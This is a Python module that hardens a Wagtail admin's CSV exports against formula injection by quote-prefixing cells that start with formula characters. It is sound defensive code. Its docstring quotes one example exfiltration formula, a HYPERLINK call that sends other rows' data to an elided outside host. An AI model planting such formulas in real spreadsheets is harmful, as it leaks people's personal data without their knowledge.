"""Spreadsheet exports that cannot run formulas: every admin list and report with `list_export`.

A visitor controls names, comments and search queries; a partner controls event titles. Opened in a
spreadsheet, a CSV cell such as `=HYPERLINK("http://…"&F2)` is a formula that can send other rows
(phone numbers) elsewhere. OWASP's rule: prefix a cell that begins with `=`, `+`, `-`, `@`, tab or
carriage return with a single quote, so that it is shown as text.

Every export in the admin (ours and Wagtail's own reports) goes through Wagtail's
`SpreadsheetExportMixin.preprocess_field_value`, so the rule is applied there once, at start-up.
XLSX exports are already safe (Wagtail stores such cells as strings) and are left alone.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def make_csv_exports_formula_safe():
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    if getattr(preprocess, "formula_safe", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = preprocess(self, field, value, export_format)
        return neutralise_formula(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.formula_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
